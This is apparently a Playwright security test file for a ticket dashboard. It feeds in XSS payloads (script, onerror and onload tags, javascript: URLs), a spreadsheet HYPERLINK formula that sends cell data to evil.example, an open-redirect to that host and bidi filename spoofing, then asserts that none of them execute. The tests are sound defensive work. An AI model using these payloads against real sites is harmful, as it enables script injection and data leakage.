"""Text from outside stays text: nothing runs, nothing is asked elsewhere, the policy has nothing to report."""

from __future__ import annotations

import re

from playwright.sync_api import Page, expect

from dashboards import Dashboards, Desk
from places import ADMIN

BIDI = "\u202egpj.exe\u202c \u0627\u0644\u0641\u0634\u0644"
SCRIPT = "<script>window.hacked=1</script><img src=x onerror=window.hacked=1>"
BREAKOUT = "\"'><svg onload=window.hacked=1>{{7*7}}${window.hacked=1}`</textarea></style>"
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
HOSTILE = (
    SCRIPT,
    BREAKOUT,
    "javascript:window.hacked=1",
    FORMULA,
    BIDI,
    "n" * 100_000,
    "\U0001f600" * 200,
    "\ud83d half a pair",
    "\u0000\ufffe\u2028\u2029\u0007",
)


def fill(dashboards: Dashboards) -> list[str]:
    made = []
    for text in HOSTILE:
        body = {
            "data": {
                "context": {
                    "properties": {
                        "PipelineName": text,
                        "PipelineRunId": f"run-{len(made)}-{text[:150]}",
                        "ErrorMessage": f"Operation on target {text} failed: ErrorCode={text},'Type=X,Message={text},Source=Y'",
                        "ActivityName": text,
                        "ErrorCode": text,
                        "RunUrl": "javascript:window.hacked=1",
                        "resourceId": text,
                        "Owner": text,
                    }
                }
            }
        }
        made.append(dashboards.fail(body)["ticket_id"])
    dashboards.act(made[0], "take", SCRIPT)
    dashboards.act(made[1], "close", BREAKOUT)
    return made


def harmless(page: Page) -> None:
    assert page.evaluate("window.hacked") is None
    assert page.locator("main script, dialog script, main img, dialog img, [onerror], [onload]").count() == 0
    addresses = page.eval_on_selector_all("a", "all => all.map((one) => one.getAttribute('href'))")
    assert [one for one in addresses if not re.match(r"(/|#|\?|https?://)", one)] == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_hostile_text_is_shown_as_text_everywhere(dashboards: Dashboards, desk: Desk) -> None:
    made = fill(dashboards)
    page = desk.open()
    expect(page.locator("article.card").first).to_be_visible()
    expect(page.get_by_role("article", name=made[2])).to_contain_text("javascript:window.hacked=1")
    harmless(page)
    for query in (
        "?tab=in_progress",
        "?tab=closed",
        "?group=pipeline",
        "?group=error_type",
        "?tab=audit",
        "?tab=insights",
        "?tab=inbound",
    ):
        page = desk.open(f"/dashboard{query}", email=ADMIN)
        expect(page.locator("main > section:not([hidden])")).to_contain_text(re.compile(r"hacked|n{40}|Most|Nothing"))
        harmless(page)
    page = desk.open(email=ADMIN)
    for ticket_id in made:
        page.goto(f"{dashboards.url}/dashboard#/tickets/{ticket_id}")
        dialog = page.get_by_role("dialog", name=ticket_id)
        expect(dialog.get_by_role("region", name="Raw error")).to_be_visible()
        harmless(page)


def test_hostile_addresses_and_pastes_do_nothing(dashboards: Dashboards, desk: Desk) -> None:
    page = desk.open(
        "/dashboard?tab=%3Cscript%3E&sort=__proto__&group=constructor&severity=%22%3E%3Cb%3E&from=never&q=%3Cimg%20src=x%20onerror=window.hacked=1%3E#/tickets/%3Csvg%20onload=alert(1)%3E"
    )
    expect(page.get_by_role("dialog")).to_be_visible()
    harmless(page)
    page.close()
    desk.complaints.clear()  # what the server refused is on the browser's console
    page = desk.open("/dashboard?tab=inbound")
    page.get_by_label("What would Pipesleuth say?").fill(SCRIPT + BREAKOUT)
    page.get_by_role("button", name="Diagnose").click()
    expect(page.locator(".answer")).to_contain_text("confidence")
    harmless(page)


def test_where_one_is_sent_after_login_is_only_our_own_page(dashboards: Dashboards, desk: Desk) -> None:
    context = desk.context(email=None)
    page = desk.page(context, "/login")
    page.evaluate("sessionStorage.setItem('pipesleuth.returnTo', '//evil.example/dashboard')")
    page.get_by_label("Email").fill(ADMIN)
    page.get_by_label("Password").fill("correct horse")
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(f"{dashboards.url}/dashboard")


def test_the_policy_refuses_what_the_page_does_not_do(desk: Desk) -> None:
    page = desk.open()
    expect(page.get_by_role("status")).to_have_text("Live")
    page.evaluate(
        "() => { try { document.createElement('iframe').srcdoc = '<b>x</b>'; } catch { window.refused = 1; } }"
    )
    assert page.evaluate("window.refused") == 1
    page.evaluate("() => fetch('http://127.0.0.1:9/').catch(() => {})")
    page.wait_for_timeout(200)
    assert any("CSP" in one for one in desk.complaints)
    desk.complaints.clear()
    desk.outside.clear()
